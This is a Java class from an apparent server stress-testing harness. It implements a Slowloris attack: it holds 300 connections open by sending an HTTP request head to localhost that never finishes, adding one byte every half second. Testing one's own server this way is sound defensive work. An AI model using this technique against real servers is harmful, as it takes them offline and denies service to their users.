package dev.belfry.attack.strangers;

import dev.belfry.attack.stage.Requests;
import dev.belfry.attack.stage.Stage;
import dev.belfry.attack.stage.Stranger;
import java.io.IOException;
import java.time.Duration;

/** Requests whose head comes byte by byte, and never ends (Slowloris). */
final class SlowHeads implements Attack {
    private static final int CONNECTIONS = 300;
    private static final byte[] BEGIN = Requests.bytes("GET /api/notifications HTTP/1.1\r\nHost: localhost\r\nX: ");
    private static final byte[] BYTE = Requests.filler(1);

    @Override
    public String name() {
        return "slow-heads";
    }

    @Override
    public String what() {
        return CONNECTIONS + " requests whose head comes a byte in half a second and never ends";
    }

    @Override
    public void run(Stage stage) throws IOException {
        stage.crowd().gather(CONNECTIONS, stranger -> stranger.send(BEGIN));
        stage.every(
                Duration.ofMillis(500),
                () -> stage.crowd().strangers().stream()
                        .filter(Stranger::isOpen)
                        .forEach(stranger -> stranger.send(BYTE)));
    }
}
